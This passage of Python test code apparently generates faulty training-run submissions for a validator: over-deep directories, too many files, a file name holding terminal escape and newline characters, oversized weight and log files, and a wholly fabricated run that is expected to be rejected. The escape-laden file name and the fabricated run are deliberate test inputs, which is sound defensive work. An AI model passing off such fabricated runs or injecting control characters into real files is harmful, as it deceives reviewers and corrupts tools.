        deep.mkdir(parents=True)
        return expect("parsed", "nested more than")
    if variant == 8:
        for number in range(2_001):
            (directory / f"f{number}").touch()
        return expect("parsed", "over 2,000 files")
    (directory / "a\x1b[31m\nb.txt").touch()
    return expect("parsed", "control characters")


@family(4)
def too_large(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    directory = bases.copy("plain", to)
    if variant == 0:
        with (directory / "weights.bin").open("wb") as file:
            file.truncate(300 * 2**20)
        return expect("parsed", "MiB in all")
    if variant == 1:
        with (directory / "logs" / "0" / "metrics.jsonl").open("ab") as file:
            file.truncate(40 * 2**20)
        return expect("log", "over 16 MiB")
    if variant == 2:
        path = directory / "logs" / "0" / "metrics.jsonl"
        path.write_bytes(path.read_bytes() + b"{}\n" * 50_001)
        return expect("log", "lines, of which at most")
    with (directory / "logs" / "0" / "run.json").open("ab") as file:
        file.truncate(3 * 2**20)
    return expect("log", "run.json: over 2 MiB")


@family(6)
def whole_fabrication(bases: Bases, to: pathlib.Path, variant: int) -> Expected:
    """Everything invented so that it fits, chain and all: it reaches `log`, which says that it proves no more."""
    write_submission(
        to, [Plan(steps=30, seed=0, step_time=0.001 * (variant + 1), author="Eve Invents")], random.Random(variant)
    )
    return expect("RAISED")
